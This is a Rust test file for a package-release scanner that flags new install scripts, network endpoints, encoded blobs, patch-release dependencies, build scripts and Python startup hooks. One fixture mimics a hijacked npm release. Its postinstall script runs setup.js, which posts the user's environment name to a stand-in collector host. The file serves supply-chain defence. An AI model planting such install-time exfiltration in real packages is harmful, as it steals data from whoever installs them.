//! A release against the previous one: each kind of change is found when a release adds it,
//! and not when the previous release already had it; a release against itself changes nothing.

use std::sync::OnceLock;

use customs_core::Ecosystem;
use customs_inspect::{
    Analyzer, Archive, ArchiveKind, Bump, CHANGE_RULES, EntryKind, Verdict, bump, compare,
};

fn analyzer() -> &'static Analyzer {
    static ANALYZER: OnceLock<Analyzer> = OnceLock::new();
    ANALYZER.get_or_init(|| Analyzer::new(&[]).expect("the bundled rules compile"))
}

fn package(files: &[(&str, &str)]) -> Archive {
    Archive {
        kind: ArchiveKind::TarGz,
        entries: files.len(),
        unpacked_bytes: files.iter().map(|(_, data)| data.len() as u64).sum(),
        files: files
            .iter()
            .enumerate()
            .map(|(index, (path, data))| customs_inspect::File {
                path: (*path).to_owned(),
                index,
                data: data.as_bytes().to_vec(),
                executable: false,
            })
            .collect(),
        skipped: Vec::new(),
        package_root: None,
        duplicates: Vec::new(),
    }
}

fn verdict(files: &[(&str, &str)], ecosystem: Ecosystem) -> Verdict {
    analyzer().analyze(&package(files), ecosystem)
}

/// The changes as `rule file excerpt` lines.
fn changes(previous: &Verdict, locked: &Verdict, bump: Bump) -> Vec<String> {
    compare(previous, locked, bump)
        .into_iter()
        .map(|change| format!("{} {} {}", change.rule_id, change.file, change.excerpt))
        .collect()
}

const CLIENT_V1: &str = r#"const https = require('https');
module.exports = function get(path, done) {
  https.get('https://api.widget-service.net' + path, (response) => done(null, response));
};
"#;

/// The hijacked patch release: a postinstall that runs a new file, which posts to a new host,
/// an encoded blob in the code that runs, and a new dependency.
const SETUP_JS: &str = r#"const https = require('https');
const request = https.request('https://metrics.fixture-collector.net/v1', { method: 'POST' });
request.end(JSON.stringify({ user: process.env.USER }));
"#;

fn npm_v1() -> Verdict {
    verdict(
        &[
            (
                "package.json",
                r#"{"name": "widget", "version": "1.4.2", "main": "index.js",
                    "dependencies": {"ms": "^2.1.0"}}"#,
            ),
            ("index.js", CLIENT_V1),
            (
                "README.md",
                "See https://docs.widget-service.net/ for more.",
            ),
        ],
        Ecosystem::Npm,
    )
}

fn npm_v2() -> Verdict {
    let blob =
        "QWxsIHRoZSB3b3JsZCdzIGEgc3RhZ2UsIGFuZCBhbGwgdGhlIG1lbiBhbmQgd29tZW4gbWVyZWx5IHBsYXllcnMu"
            .repeat(6);
    let index = format!("{CLIENT_V1}const table = \"{blob}\";\nmodule.exports.table = table;\n");
    let index: &'static str = Box::leak(index.into_boxed_str());
    verdict(
        &[
            (
                "package.json",
                r#"{"name": "widget", "version": "1.4.3", "main": "index.js",
                    "scripts": {"postinstall": "node setup.js", "test": "node test.js"},
                    "dependencies": {"ms": "^2.1.0", "left-padder": "^1.0.0"}}"#,
            ),
            ("index.js", index),
            ("setup.js", SETUP_JS),
            (
                "README.md",
                "See https://docs.widget-service.net/ for more.",
            ),
        ],
        Ecosystem::Npm,
    )
}

#[test]
fn a_hijacked_patch_release_shows_every_change() {
    let before = npm_v1();
    let after = npm_v2();
    let found = changes(&before, &after, bump("1.4.2", "1.4.3"));
    let rules: Vec<&str> = found
        .iter()
        .map(|line| line.split(' ').next().unwrap())
        .collect();
    assert_eq!(
        rules,
        [
            "new-dependency-in-patch",
            "new-endpoint",
            "new-install-script",
            "new-obfuscation",
            "new-unasked-file",
        ],
        "{found:#?}"
    );
    assert!(found.contains(&"new-dependency-in-patch package.json left-padder".to_owned()));
    assert!(
        found
            .iter()
            .any(|line| line.starts_with("new-endpoint setup.js ")
                && line.contains("metrics.fixture-collector.net")),
        "{found:#?}"
    );
    assert!(
        found.contains(&"new-install-script package.json postinstall: node setup.js".to_owned())
    );
    assert!(found.contains(&"new-unasked-file setup.js runs at install".to_owned()));
    assert!(
        found
            .iter()
            .any(|line| line.starts_with("new-obfuscation index.js encoded-blob")),
        "{found:#?}"
    );
    // Every change names a documented kind.
    for change in compare(&before, &after, Bump::Patch) {
        assert!(CHANGE_RULES.iter().any(|(id, _)| *id == change.rule_id));
    }
}

#[test]
fn what_the_previous_release_had_is_not_a_change() {
    let before = npm_v1();
    let after = npm_v2();
    assert_eq!(changes(&before, &before, Bump::Patch), Vec::<String>::new());
    assert_eq!(changes(&after, &after, Bump::Patch), Vec::<String>::new());
    // Going back removes things; removals are not reported.
    assert_eq!(changes(&after, &before, Bump::Patch), Vec::<String>::new());
}

#[test]
fn new_dependencies_count_only_in_a_patch_release() {
    let found = changes(&npm_v1(), &npm_v2(), bump("1.4.2", "1.5.0"));
    assert!(
        !found
            .iter()
            .any(|line| line.starts_with("new-dependency-in-patch")),
        "{found:#?}"
    );
}

#[test]
fn a_url_in_code_that_does_not_use_the_network_is_not_an_endpoint() {
    let before = verdict(
        &[
            ("package.json", r#"{"name": "x", "version": "1.0.0"}"#),
            ("index.js", "module.exports = 1;\n"),
        ],
        Ecosystem::Npm,
    );
    let after = verdict(
        &[
            ("package.json", r#"{"name": "x", "version": "1.0.1"}"#),
            (
                "index.js",
                "// See https://blog.somewhere-else.net/post for why.\nmodule.exports = 2;\n",
            ),
        ],
        Ecosystem::Npm,
    );
    assert_eq!(after.profile.endpoints, Vec::new());
    assert_eq!(changes(&before, &after, Bump::Patch), Vec::<String>::new());
}

#[test]
fn a_new_build_script_in_a_crate() {
    let manifest = r#"[package]
name = "fast-log"
version = "0.2.1"

[dependencies]
serde_json = "1"

[target.'cfg(unix)'.dependencies]
libc = "0.2"

[dev-dependencies]
criterion = "0.5"
"#;
    let before = verdict(
        &[
            ("Cargo.toml", manifest),
            (
                "src/lib.rs",
                "pub fn log(message: &str) { let _ = message; }\n",
            ),
        ],
        Ecosystem::CratesIo,
    );
    assert_eq!(before.profile.dependencies, ["libc", "serde-json"]);
    let after = verdict(
        &[
            (
                "Cargo.toml",
                &manifest.replace("0.2.1", "0.2.2").replace(
                    "[dependencies]",
                    "build = \"build.rs\"\n\n[build-dependencies]\ncc = \"1\"\n\n[dependencies]",
                ),
            ),
            (
                "build.rs",
                "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }\n",
            ),
            (
                "src/lib.rs",
                "pub fn log(message: &str) { let _ = message; }\n",
            ),
        ],
        Ecosystem::CratesIo,
    );
    assert_eq!(
        changes(&before, &after, bump("0.2.1", "0.2.2")),
        [
            "new-dependency-in-patch Cargo.toml cc",
            "new-unasked-file build.rs runs at build"
        ]
    );
}

#[test]
fn a_new_startup_hook_in_a_wheel() {
    let metadata = "Metadata-Version: 2.1\nName: colors\nVersion: 2.0.1\n\
                    Requires-Dist: typing-extensions\nRequires-Dist: pytest; extra == \"test\"\n\n\
                    A description.\n";
    let before = verdict(
        &[
            ("colors-2.0.0.dist-info/METADATA", metadata),
            ("colors/__init__.py", "RED = 31\n"),
        ],
        Ecosystem::PyPI,
    );
    assert_eq!(before.profile.dependencies, ["typing-extensions"]);
    let after = verdict(
        &[
            ("colors-2.0.1.dist-info/METADATA", metadata),
            ("colors/__init__.py", "RED = 31\n"),
            ("colors_hook.pth", "import colors._boot\n"),
            ("colors/_boot.py", "import os\n"),
        ],
        Ecosystem::PyPI,
    );
    let found = compare(&before, &after, Bump::Patch);
    let unasked: Vec<(&str, &str)> = found
        .iter()
        .map(|change| (change.rule_id.as_str(), change.file.as_str()))
        .collect();
    assert_eq!(
        unasked,
        [
            // Importing a submodule imports its package first.
            ("new-unasked-file", "colors/__init__.py"),
            ("new-unasked-file", "colors/_boot.py"),
            ("new-unasked-file", "colors_hook.pth")
        ]
    );
    assert!(
        after
            .profile
            .unasked
            .iter()
            .all(|item| item.kind == EntryKind::Startup)
    );
}

#[test]
fn a_new_major_version_may_change_hosts_and_obfuscation_but_not_install_scripts() {
    let found = changes(&npm_v1(), &npm_v2(), bump("1.4.2", "2.0.0"));
    assert_eq!(
        found,
        [
            "new-install-script package.json postinstall: node setup.js",
            "new-unasked-file setup.js runs at install"
        ]
    );
}

#[test]
fn what_a_registry_install_does_not_run_is_not_a_change() {
    let before = verdict(
        &[
            ("package.json", r#"{"name": "x", "version": "1.0.0"}"#),
            ("index.js", "module.exports = 1;\n"),
        ],
        Ecosystem::Npm,
    );
    // `prepare` runs for git and local installs only; a header file is not code that runs.
    let after = verdict(
        &[
            (
                "package.json",
                r#"{"name": "x", "version": "1.0.1", "scripts": {"prepare": "npm run build", "build": "tsc", "postinstall": "node-gyp rebuild"}}"#,
            ),
            ("index.js", "module.exports = 2;\n"),
            (
                "binding.gyp",
                "{\"targets\": [{\"sources\": [\"src/x.h\"]}]}",
            ),
            ("src/x.h", "#define X 1\n"),
        ],
        Ecosystem::Npm,
    );
    assert_eq!(
        changes(&before, &after, Bump::Patch),
        ["new-install-script package.json postinstall: node-gyp rebuild"]
    );
}

#[test]
fn an_optional_crate_dependency_is_not_a_new_dependency() {
    let manifest = |version: &str, extra: &str| {
        format!(
            "[package]\nname = \"json\"\nversion = \"{version}\"\n\n[dependencies]\nitoa = \"1\"\n{extra}"
        )
    };
    let before_manifest = manifest("1.0.153", "");
    let after_manifest = manifest(
        "1.0.154",
        "foldhash = { version = \"0.2\", optional = true }\nryu = { version = \"1\" }\n",
    );
    let before = verdict(&[("Cargo.toml", &before_manifest)], Ecosystem::CratesIo);
    let after = verdict(&[("Cargo.toml", &after_manifest)], Ecosystem::CratesIo);
    assert_eq!(after.profile.dependencies, ["itoa", "ryu"]);
    assert_eq!(
        changes(&before, &after, bump("1.0.153", "1.0.154")),
        ["new-dependency-in-patch Cargo.toml ryu"]
    );
}
